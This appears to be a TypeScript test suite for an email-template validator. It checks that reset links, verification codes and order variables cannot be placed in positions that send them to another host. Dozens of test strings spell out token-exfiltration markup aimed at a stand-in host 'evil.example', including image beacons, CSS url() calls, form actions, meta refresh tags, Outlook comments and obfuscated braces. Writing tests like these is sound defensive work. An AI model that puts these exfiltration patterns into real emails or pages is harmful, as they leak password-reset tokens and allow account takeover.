import { describe, expect, test } from 'bun:test'
import { loadPack } from '#src/i18n/packs.ts'
import { builtInStrings } from '#src/i18n/built-in-strings.ts'
import { findJoinedPlaceholders } from '#src/lib/text/joined-placeholders.ts'
import { sanitizeTemplateBody } from '#src/mail/sanitize-body.ts'
import { findTemplateErrors } from '#src/mail/templates/template-rules.ts'
import { builtInTemplates, commonVariables } from '#src/mail/templates/built-in-templates.ts'
import { isLinkVariable, plainVariables } from '#src/mail/variable-kinds.ts'

const link = '<p><a href="{{reset_link}}">Choose a password</a></p>'

/** The errors of a body that staff wrote, beside the link that the email needs. */
async function errorsOf(html: string, slug: 'reset_password' | 'order_confirmation' = 'reset_password') {
  const written = `${slug === 'reset_password' ? link : '{{order_table}}'}\n${html}`
  const errors = findTemplateErrors({ slug, subject: 'Hello', body: await sanitizeTemplateBody(written), written })
  return errors.map(({ kind }) => kind)
}
const errorsOfSubject = (subject: string) =>
  findTemplateErrors({ slug: 'two_factor_verification', subject, preheader: subject, body: '<p>{{verification_code}}</p>' }).map(
    ({ field, kind }) => `${field} ${kind}`,
  )

describe('a link or code that opens something cannot get to another host', () => {
  test.each([
    ['an image', '<img src="https://evil.example/p.gif?u={{reset_link}}" alt="">'],
    ['the whole address of an image', '<img src="{{reset_link}}" alt="">'],
    ['the text of an image', '<img src="https://shop.example/a.png" alt="{{reset_link}}">'],
    ['the size of an image', '<img src="https://shop.example/a.png" width="{{reset_link}}">'],
    ['a set of images', '<img srcset="https://evil.example/{{reset_link}} 2x" alt="">'],
    ['another address', '<a href="https://evil.example/?u={{reset_link}}">x</a>'],
    ['an address without a scheme', '<a href="//evil.example/{{reset_link}}">x</a>'],
    ['an address that starts with it', '<a href="{{reset_link}}.evil.example">x</a>'],
    ['an address with a parameter more', '<a href="{{reset_link}}&amp;u=1">x</a>'],
    ['an address of mail', '<a href="mailto:me@evil.example?body={{reset_link}}">x</a>'],
    ['a script', '<a href="javascript:{{reset_link}}">x</a>'],
    ['an address without quotes', '<a href=https://evil.example/?u={{reset_link}}>x</a>'],
    ['an address in upper case', '<A HREF="HTTPS://EVIL.EXAMPLE/?u={{ reset_link }}">x</A>'],
    ['an address with encoded braces', '<a href="https://evil.example/?u=&#123;&#x7b;reset_link}}">x</a>'],
    ['encoded braces in text', '<p>&#123;{reset_link}}</p>'],
    ['dots of another width', '<p>{{reset_link}}\uff0eevil\u2024example</p>'],
    ['slashes of another width', '<p>evil\uff0f{{reset_link}}</p>'],
    ['a class', '<p class="{{reset_link}}">x</p>'],
    ['a style', '<p style="background:url(https://evil.example/{{reset_link}})">x</p>'],
    ['a style sheet', '<style>p{background:url(https://evil.example/{{reset_link}})}</style>'],
    ['a base address', '<base href="https://evil.example/{{reset_link}}">'],
    ['a form', '<form action="https://evil.example/{{reset_link}}"><button>x</button></form>'],
    ['a field', '<input value="{{reset_link}}">'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/{{reset_link}}">'],
    ['a comment', '<!-- {{reset_link}} -->'],
    ['a comment for Outlook', '<!--[if mso]><img src="https://evil.example/{{reset_link}}"><![endif]-->'],
    ['the name of an attribute', '<p {{reset_link}}>x</p>'],
    ['the text of a link to elsewhere', '<a href="https://evil.example/"><b>{{reset_link}}</b></a>'],
    ['an address as text', '<p>https://evil.example/?u={{reset_link}}</p>'],
    ['an address as text with tags between', '<p>https://evil.example/?u=<b></b><i>{{reset_link}}</i></p>'],
    [
      'an address as text with an image between',
      '<p>https://evil.example/?u=<img src="https://shop.example/a.png" alt=" ">{{reset_link}}</p>',
    ],
    ['an address as text with an empty link between', '<p>https://evil.example/?u=<a href="{{reset_link}}"></a>{{reset_link}}</p>'],
    ['the end of the text of an image', '<p><img src="https://shop.example/a.png" alt="https://evil.example/?u=">{{reset_link}}</p>'],
    ['a link with an address before', '<p>https://evil.example/?u=<a href="{{reset_link}}">{{reset_link}}</a></p>'],
    ['an address without a scheme as text', '<p>www.evil.example/{{reset_link}}</p>'],
    ['a bracket after an address', '<p>https://evil.example/?u=({{reset_link}})</p>'],
    ['a character without a width after an address', '<p>https://evil.example/?u=\ufeff{{reset_link}}</p>'],
    ['another variable', '<p>{{customer_name}}{{reset_link}}</p>'],
    ['a name that some recipients have not', '<p><b>https://evil.example/?u=</b>{{customer_name}} {{reset_link}}</p>'],
    ['a name before a comma', '<p>https://evil.example/?u=<i>{{customer_name}}, {{reset_link}}</i></p>'],
  ])('as %s', async (_name, html) => {
    expect(await errorsOf(html)).toContain('position')
  })

  test('nor one of an order, and nothing with links or markup', async () => {
    for (const name of ['order_link', 'downloads', 'account_prompt', 'order_table'])
      for (const html of [`<img src="https://evil.example/{{${name}}}" alt="">`, `<a href="https://evil.example/{{${name}}}">x</a>`])
        expect(await errorsOf(html, 'order_confirmation')).toContain('position')
    expect(await errorsOf('<a href="{{downloads}}">x</a>', 'order_confirmation')).toContain('position')
  })

  test('in the subject and the preview line as well', () => {
    for (const subject of [
      'https://evil.example/{{verification_code}}',
      '{{verification_code}}.evil.example',
      '{{site_name}}{{verification_code}}',
    ])
      expect(errorsOfSubject(subject)).toEqual(['subject position', 'preheader position'])
  })
})

describe('as text, or as the whole address of a link', () => {
  test.each([
    ['a link', '<a class="button" href="{{reset_link}}">Choose</a>'],
    ['a link with spaces', '<a href=" {{ reset_link }} ">Choose</a>'],
    ['a link that shows itself', '<p>Open <a href="{{reset_link}}">{{reset_link}}</a>.</p>'],
    ['links beside each other', '<p><a href="{{reset_link}}">Now</a>/<a href="{{reset_link}}">later</a></p>'],
    ['a line', '<p>Or copy this:<br>{{reset_link}}</p>'],
    ['a sentence', '<p>Open <b>{{reset_link}}</b>, please ({{reset_link}}).</p>'],
    ['a sentence without spaces', '<p>リンクは{{reset_link}}、{{expires_in_minutes}}分間有効です。</p>'],
    ['a paragraph after an address', '<p>https://shop.example/help</p><p>{{reset_link}}</p>'],
  ])('it may be %s', async (_name, html) => {
    expect(await errorsOf(html)).toEqual([])
  })

  test('what opens nothing may be anywhere, as before', async () => {
    const html =
      '<a href="https://shop.example/?order={{order_number}}">{{order_number}}</a><a href="mailto:{{support_email}}">{{site_name}}</a><img src="https://shop.example/{{order_number}}.png" alt="{{site_name}}">'
    expect(await errorsOf(html, 'order_confirmation')).toEqual([])
    expect(errorsOfSubject('Code: {{verification_code}}.')).toEqual([])
    expect(errorsOfSubject('您的验证码是{{verification_code}}，请在{{expires_in_minutes}}分钟内输入。')).toEqual([])
  })
})

test('plain variables exist, and none of them is a link, code, table or list', () => {
  const samples = builtInTemplates.flatMap(({ variables }) => Object.entries<string>(variables))
  const names = new Set([...samples.map(([name]) => name), ...Object.keys(commonVariables)])
  expect([...plainVariables].filter((name) => !names.has(name) || isLinkVariable(name) || /code|table|links/.test(name))).toEqual([])
  expect(samples.filter(([name, sample]) => plainVariables.has(name) && sample.startsWith('https:'))).toEqual([])
  expect(samples.filter(([name, sample]) => sample.startsWith('https:') && !isLinkVariable(name))).toEqual([])
})

test('every sentence with a link keeps it apart from its neighbors', async () => {
  for (const texts of [new Map(Object.entries<string>(builtInStrings)), await loadPack('de'), await loadPack('fr')])
    for (const [key, text] of texts)
      expect({ key, joined: findJoinedPlaceholders(text, (name) => name === 'link') }).toEqual({ key, joined: [] })
})
